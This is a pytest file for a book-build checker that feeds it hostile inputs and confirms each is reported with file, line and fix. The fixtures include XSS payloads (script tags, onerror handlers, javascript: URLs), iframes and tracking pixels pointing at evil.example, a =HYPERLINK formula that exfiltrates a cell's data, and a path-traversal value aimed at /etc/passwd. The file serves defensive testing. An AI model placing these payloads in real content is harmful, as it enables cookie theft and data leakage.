"""Hostile and careless input, committed to a copy of the book: `make check` reports each as a problem with
file, line where known, field and fix; it never crashes and keeps checking the other files; it changes no
file; and a second run reports the same.

Each case edits a copy of the book and says where the problem must be reported. Targets are found from the
schema, _toc.yml and the data, so adding a study, reference or check never breaks a case.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from conftest import snapshot
from helpers import read_rows, write_rows
from reviewkit.model import schema
from reviewkit.model.toc import toc_files
from reviewkit import cli
from reviewkit.checks.run import run_checks


@dataclass
class Expect:
    file: str
    line: int | None
    text: str
    field: str | None = "*"  # "*": any field


# ------------------------------------------------------------------ finding targets in a copy of the book
def table(book: Path, name: str) -> Path:
    return book / "data" / schema.resource(name)["path"]


def glossary_key(book: Path) -> tuple[str, str]:
    """(key column, first key) of the glossary."""
    return schema.primary_key("glossary"), read_rows(table(book, "glossary"))[1][0]


def number_cell(book: Path) -> tuple[Path, str, str]:
    """(file, row id, column) of a filled cell of a number column."""
    for resource in schema.resources():
        numbers = [f["name"] for f in resource["schema"]["fields"] if f.get("type") == "number"]
        rows = read_rows(table(book, resource["name"]))
        for row in rows[1:]:
            for column in numbers:
                if row[rows[0].index(column)]:
                    return table(book, resource["name"]), row[0], column
    raise LookupError("no filled number cell")


def set_cell(path: Path, row_id: str, column: str, value: str) -> int:
    rows = read_rows(path)
    for number, row in enumerate(rows[1:], start=2):
        if row[0] == row_id:
            row[rows[0].index(column)] = value
            write_rows(path, rows)
            return number
    raise KeyError(row_id)


def text_cell(book: Path, value: str) -> Expect:
    """Put ``value`` in the glossary's expansion of its first term."""
    key_column, key = glossary_key(book)
    line = set_cell(table(book, "glossary"), key, "expansion", value)
    return Expect("data/glossary.csv", line, "", "expansion")


def chapter(book: Path, *, with_source_check: bool = False, nth: int = 0) -> Path:
    """The nth executable chapter of _toc.yml (with a source check, if asked)."""
    found = []
    for entry in toc_files(book):
        path = book / f"{entry}.md"
        text = path.read_text(errors="replace") if path.is_file() else ""
        if "{code-cell}" in text and (not with_source_check or ":::{source-check}" in text):
            found.append(path)
    return found[nth]


def append(path: Path, text: str) -> int:
    """Append ``text`` (a block) to a file; returns the line where it starts."""
    old = path.read_text(encoding="utf-8")
    path.write_text(old.rstrip("\n") + "\n\n" + text, encoding="utf-8")
    return old.rstrip("\n").count("\n") + 3


def add_to_chapter(book: Path, text: str) -> Expect:
    path = chapter(book)
    return Expect(path.relative_to(book).as_posix(), append(path, text), "")


def wrap_source_check(book: Path, before: str, after: str) -> Expect:
    path = chapter(book, with_source_check=True)
    text = path.read_text(encoding="utf-8")
    match = re.search(r"^:::\{source-check\} ([^\n]+)\n:::\n", text, re.M)
    path.write_text(text[:match.start()] + before + match.group(0) + after + text[match.end():], encoding="utf-8")
    line = text[:match.start()].count("\n") + 1 + before.count("\n")
    return Expect(path.relative_to(book).as_posix(), line, "", match.group(1).split()[0])


def replace_in(path: Path, old: str, new: str, count: int = 1) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {path}"
    path.write_text(text.replace(old, new, count), encoding="utf-8")


# ------------------------------------------------------------------ the bad inputs
def bad_byte_in_csv(book):
    path = table(book, "glossary")
    lines = path.read_bytes().split(b"\n")
    lines[3] = lines[3].replace(b",", b"\xe9,", 1)
    path.write_bytes(b"\n".join(lines))
    return Expect("data/glossary.csv", 4, "not UTF-8", None)


def bad_byte_in_bib(book):
    path = book / "references.bib"
    data = path.read_bytes()
    at = data.index(b"title = {", 200)
    path.write_bytes(data[:at + 9] + b"\x96" + data[at + 9:])
    return Expect("references.bib", data[:at].count(b"\n") + 1, "not UTF-8", None)


def bad_byte_in_chapter(book):
    path = chapter(book, nth=1)
    data = path.read_bytes()
    path.write_bytes(data + b"\nA closing line with a Windows-1252 quote \x93here\x94.\n")
    return Expect(path.relative_to(book).as_posix(), data.count(b"\n") + 2, "not UTF-8", None)


def bad_json(book):
    path = book / "data" / "datapackage.json"
    lines = path.read_text().splitlines()
    index = next(i for i, line in enumerate(lines) if '"title"' in line and i > 2)
    lines[index] = lines[index].rstrip(",")  # a missing comma
    path.write_text("\n".join(lines) + "\n")
    return Expect("data/datapackage.json", index + 2, "invalid JSON", None)


def bad_toc_yaml(book):
    path = book / "_toc.yml"
    lines = path.read_text().splitlines()
    index = next(i for i, line in enumerate(lines) if "- file:" in line)
    lines[index] = lines[index].replace("- file:", "- file: [")
    path.write_text("\n".join(lines) + "\n")
    return Expect("_toc.yml", None, "invalid YAML", None)


def bad_config_yaml(book):
    replace_in(book / "_config.yml", "  raise_on_error: true", "  raise_on_error: true\n   allow_errors: [false")
    return Expect("_config.yml", None, "invalid YAML", None)


def bad_front_matter(book):
    path = chapter(book, nth=2)
    replace_in(path, "kernelspec:\n", "kernelspec:\n  display_name: Python 3: broken\n")
    return Expect(path.relative_to(book).as_posix(), None, "invalid YAML", None)


def oversized_cell(book):
    expect = text_cell(book, "x" * (130 * 1024 + 1))
    return Expect(expect.file, expect.line, "KiB", "*")


def unclosed_quote(book):
    path = table(book, "glossary")
    lines = path.read_text().split("\n")
    lines[2] = lines[2].replace(",", ',"', 1)
    path.write_text("\n".join(lines))
    return Expect("data/glossary.csv", 3, "never closed", None)


def text_after_quote(book):
    path = table(book, "glossary")
    rows = read_rows(path)
    text = path.read_text().split("\n")
    text[1] = f'{rows[1][0]},"{rows[1][1]}" and more,{rows[1][2]}'
    path.write_text("\n".join(text))
    return Expect("data/glossary.csv", 2, "quoting", None)


def renamed_key_column(book):
    path = table(book, "source_checks")
    rows = read_rows(path)
    rows[0][rows[0].index("check_id")] = "id"
    write_rows(path, rows)
    return Expect("data/source_checks.csv", 1, "check_id", "check_id")


def resource_path_outside_data(book):
    path = book / "data" / "datapackage.json"
    package = json.loads(path.read_text())
    package["resources"][0]["path"] = "../../../etc/passwd"
    path.write_text(json.dumps(package, indent=2))
    return Expect("data/datapackage.json", None, "not a CSV file name", f"resources[{package['resources'][0]['name']}].path")


def resources_not_a_list(book):
    path = book / "data" / "datapackage.json"
    package = json.loads(path.read_text())
    package["resources"] = {"glossary": package["resources"][0]}
    path.write_text(json.dumps(package, indent=2))
    return Expect("data/datapackage.json", None, "list of 'resources'", "resources")


def infinite_number(book, value="inf"):
    path, row_id, column = number_cell(book)
    line = set_cell(path, row_id, column, value)
    return Expect(path.relative_to(book).as_posix(), line, "not a finite number", column)


def unknown_entry_type(book):
    path = book / "references.bib"
    text = path.read_text()
    at = text.index("@article{", text.index("@article{") + 1)
    path.write_text(text[:at] + "@artcle{" + text[at + 9:])
    return Expect("references.bib", text[:at].count("\n") + 1, "not an entry type", "*")


def bib_field(field: str, says: str):
    """A field added to the first @article of references.bib; the problem is on the entry's first line."""
    def inject(book):
        path = book / "references.bib"
        text = path.read_text()
        at = text.index("  year = {", text.index("@article{"))
        path.write_text(text[:at] + f"  {field},\n" + text[at:])
        return Expect("references.bib", text[:text.index("@article{")].count("\n") + 1, says, "*")
    return inject


def raw_html(markup, says):
    def inject(book):
        expect = add_to_chapter(book, f"A sentence.\n\n{markup}\n")
        return Expect(expect.file, expect.line + 2, says, None)
    inject.__name__ = f"raw_html_{markup[:12]}"
    return inject


def myst(text, says, field="*"):
    def inject(book):
        expect = add_to_chapter(book, text)
        return Expect(expect.file, expect.line, says, field)
    return inject


def hidden_source_check(before, after):
    def inject(book):
        expect = wrap_source_check(book, before, after)
        return Expect(expect.file, expect.line, "readers would not see the finding", expect.field)
    return inject


def source_check_in_hidden_div(book):
    expect = wrap_source_check(book, "<div hidden>\n\n", "\n</div>\n")
    return Expect(expect.file, expect.line - 2, "hides content", None)  # reported where the <div hidden> is


def control_character(char, name):
    def inject(book):
        expect = text_cell(book, f"an ordinary{char} expansion")
        return Expect(expect.file, expect.line, name, "expansion")
    return inject


def formula(value):
    def inject(book):
        expect = text_cell(book, value)
        return Expect(expect.file, expect.line, "formula", "expansion")
    return inject


def look_alike_key(book):
    path = table(book, "glossary")
    rows = read_rows(path)
    key_column, key = glossary_key(book)
    twin = list(rows[1])
    twin[rows[0].index(key_column)] = key.upper().translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)})
    rows.append(twin)
    write_rows(path, rows)
    return Expect("data/glossary.csv", len(rows), "looks the same as", key_column)


def undescribed_csv(book):
    (book / "data" / "extra.csv").write_text("id,value\na,=1+1\n", encoding="utf-8")
    return Expect("data/extra.csv", None, "not described", None)


def direct_read(code, says):
    def inject(book):
        path = chapter(book)
        line = append(path, f"```{{code-cell}} ipython3\n{code}\n```\n")
        return Expect(path.relative_to(book).as_posix(), line + 1, says, "code-cell")
    return inject


def config_edit(old, new, field, says):
    def inject(book):
        replace_in(book / "_config.yml", old, new)
        return Expect("_config.yml", "*", says, field)
    return inject


def makefile_without_strict_build(book):
    replace_in(book / "Makefile", "\t$(BIN)/reviewkit build\n", "\t$(BIN)/jupyter-book build . --keep-going\n")
    return Expect("Makefile", "*", "warnings might not be errors", "book")


BAD_INPUTS: dict[str, Callable[[Path], Expect]] = {
    # files make check could not read or parse: one problem each, with the line where known
    "non-UTF-8 byte in a CSV": bad_byte_in_csv,
    "non-UTF-8 byte in references.bib": bad_byte_in_bib,
    "non-UTF-8 byte in a chapter": bad_byte_in_chapter,
    "invalid JSON in datapackage.json": bad_json,
    "invalid YAML in _toc.yml": bad_toc_yaml,
    "invalid YAML in _config.yml": bad_config_yaml,
    "invalid YAML in a chapter's front matter": bad_front_matter,
    "a CSV cell over 128 KiB": oversized_cell,
    "an unclosed quote in a CSV": unclosed_quote,
    "text after a closing quote in a CSV": text_after_quote,
    "a renamed key column the build reads by name": renamed_key_column,
    "a resource path outside data/": resource_path_outside_data,
    "resources that are not a list": resources_not_a_list,
    # inputs that used to pass the check and crash the build (NaN and -Infinity: tests/checks/test_cells.py)
    "inf in a number column": infinite_number,
    "an unknown BibTeX entry type": unknown_entry_type,
    # untrusted text that would become active content
    "raw <script> in a chapter": raw_html("<script>alert(document.cookie)</script>", "<script> runs code"),
    "an event handler in a chapter": raw_html('<img src="x" onerror="alert(1)">', "onerror handler"),
    "an iframe in a chapter": raw_html('<iframe src="https://evil.example/"></iframe>', "<iframe>"),
    "a javascript: link in raw HTML": raw_html('<a href="javascript:alert(1)">read more</a>', "javascript: URL"),
    "a data: URL in raw HTML": raw_html('<a href="data:text/html,<script>alert(1)</script>">x</a>', "data: URL"),
    "an SVG with a script link": raw_html('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
                                          "javascript: URL"),
    "a style element loading a URL": raw_html("<style>body{background:url(https://evil.example/t)}</style>",
                                              "<style>"),
    "an HTML comment": raw_html("<!-- note to self -->", "comment"),
    "a remote image in Markdown": myst("![pixel](https://evil.example/t.gif)\n", "another host", None),
    "a {raw} html directive": myst("```{raw} html\n<script>alert(1)</script>\n```\n", "{raw}", "raw"),
    "an {eval-rst} directive": myst("```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```\n",
                                    "{eval-rst}", "eval-rst"),
    "an image with a javascript: target": myst("```{image} ../assets/favicon.svg\n:target: javascript:alert(1)\n```\n",
                                               "link target", "image"),
    "a javascript: URL in a BibTeX url field": bib_field("url = {javascript:alert(document.domain)}",
                                                        "not an http(s) address"),
    "a script URL in a BibTeX eprint field": bib_field("eprint = {javascript:alert(1)}", "arXiv"),
    "markup in _config.yml's title": config_edit('title: "', 'title: "<img src=x onerror=alert(1)> ', "title", "markup"),
    "markup in _config.yml's author": config_edit('author: "', 'author: "<script>alert(1)</script>', "author", "markup"),
    # source checks that readers would not see
    "a source check in <div hidden>": source_check_in_hidden_div,
    "a source check in a {dropdown}": hidden_source_check("::::{dropdown} Details\n", "::::\n"),
    "a source check in {only}": hidden_source_check("::::{only} latex\n", "::::\n"),
    "a source check in a dropdown admonition": hidden_source_check("::::{note}\n:class: dropdown\n", "::::\n"),
    "a source check in a {toggle}": hidden_source_check("::::{toggle}\n", "::::\n"),
    "a source check in a closed tab": hidden_source_check("::::{tab-set}\n:::::{tab-item} More\n", ":::::\n::::\n"),
    "a source check in a class that hides": hidden_source_check("::::{div}\n:class: d-none\n", "::::\n"),
    # text hygiene: one case of each rule here, every character and formula where the rule lives
    # (tests/checks/test_cells.py)
    "a zero-width space in a cell": control_character("\u200b", "U+200B ZERO WIDTH SPACE"),
    "two glossary keys that look identical": look_alike_key,
    "a =HYPERLINK formula in a cell": formula('=HYPERLINK("https://evil.example/?d="&A1,"Click")'),
    "a CSV the data package does not describe": undescribed_csv,
    # chapters that would go stale: reading data past the toolkit
    "pd.read_csv on data/ in a chapter": direct_read("frame = pd.read_csv('../data/glossary.csv')",
                                                     "read_csv()"),
    "open() on data/ in a chapter": direct_read("text = open('../data/glossary.csv').read()", "open()"),
    "a shell command in a chapter": direct_read("!cat ../data/glossary.csv", "shell command"),
    # configuration that would weaken the build
    "a misspelt execute: key": config_edit("\nexecute:\n", "\nexectue:\n", "exectue", "unknown key"),
    "a misspelt key inside execute:": config_edit("raise_on_error:", "rase_on_error:", "execute.rase_on_error",
                                                  "unknown key"),
    "allow_errors: true": config_edit("allow_errors: false", "allow_errors: true", "execute.allow_errors",
                                      "allow_errors"),
    "raise_on_error: false": config_edit("raise_on_error: true", "raise_on_error: false", "execute.raise_on_error",
                                         "raise_on_error"),
    "stderr_output: show": config_edit("stderr_output: error", "stderr_output: show", "execute.stderr_output",
                                       "stderr_output"),
    "execute_notebooks: off": config_edit("execute_notebooks: cache", "execute_notebooks: 'off'",
                                          "execute.execute_notebooks", "execute_notebooks"),
    "suppress_warnings in sphinx.config": config_edit("  config:\n", "  config:\n    suppress_warnings: [misc]\n",
                                                      "sphinx.config.suppress_warnings", "weaken"),
    "the checks switched off in sphinx.config": config_edit("  config:\n", "  config:\n    reviewkit_check_sources: false\n",
                                                            "sphinx.config.reviewkit_check_sources", "weaken"),
    "the toolkit's extension removed": config_edit("    - reviewkit.sphinx\n", "    - sphinx.ext.todo\n",
                                                   "sphinx.extra_extensions", "skip every check"),
    "a Makefile that builds without -W": makefile_without_strict_build,
}


def matching(problems, expect: Expect):
    return [p for p in problems if p.file == expect.file and expect.text in p.message + p.fix
            and (expect.line == "*" or expect.line is None or p.line == expect.line)
            and (expect.field == "*" or p.field == expect.field)]


@pytest.mark.parametrize("name", BAD_INPUTS)
def test_each_bad_input_is_one_clear_problem(book, name):
    expect = BAD_INPUTS[name](book)
    before = snapshot(book)
    first = run_checks()
    assert snapshot(book) == before, "make check must change no file"
    assert matching(first, expect), f"expected {expect}, got:\n" + "\n".join(map(str, first))
    assert all(p.fix and p.message for p in first)
    assert run_checks() == first, "a re-run reports the same"


def test_unreadable_files_do_not_stop_the_others_from_being_checked(book):
    """Every unreadable-file case at once, plus an ordinary problem: all are reported, by the command line,
    without a traceback, and nothing is built or changed."""
    crashers = ["non-UTF-8 byte in a CSV", "non-UTF-8 byte in references.bib", "non-UTF-8 byte in a chapter",
                "invalid YAML in a chapter's front matter", "a renamed key column the build reads by name",
                "inf in a number column", "a style element loading a URL"]
    expected = [BAD_INPUTS[name](book) for name in crashers]
    rows = read_rows(table(book, "platforms"))
    write_rows(table(book, "platforms"), [row + (["colour"] if i == 0 else ["blue"]) for i, row in enumerate(rows)])
    before = snapshot(book)
    runs = [subprocess.run([sys.executable, "-m", "reviewkit", "check"], cwd=book, capture_output=True, text=True,
                           env={"REVIEWKIT_ROOT": str(book), "PATH": "/usr/bin:/bin", "PYTHONDONTWRITEBYTECODE": "1"}) for _ in range(2)]
    assert snapshot(book) == before
    result = runs[0]
    assert result.returncode == 1 and "Traceback" not in result.stderr + result.stdout
    without_timing = [re.sub(r", [0-9.]+ s\)", ")", run.stderr) for run in runs]
    assert runs[1].returncode == result.returncode and without_timing[0] == without_timing[1]
    for expect in expected:
        where = expect.file if expect.line in (None, "*") else f"{expect.file}:{expect.line}"
        assert where in result.stderr, f"{where} missing from:\n{result.stderr}"
    assert "data/platforms.csv:1: [colour] column 'colour' is not in the schema" in result.stderr


@pytest.mark.parametrize("name", ["invalid JSON in datapackage.json", "invalid YAML in _toc.yml",
                                  "invalid YAML in _config.yml", "a CSV cell over 128 KiB",
                                  "an unclosed quote in a CSV"])
def test_the_command_line_reports_unparseable_files_without_a_traceback(book, name, capsys):
    """The command's own code, in this process (a traceback would fail the case); the process itself, its exit
    status and its streams, are the case above."""
    expect = BAD_INPUTS[name](book)
    code = cli.main(["check"])
    out, err = capsys.readouterr()
    assert code == 1 and "Traceback" not in err + out
    assert expect.file in err and "fix:" in err

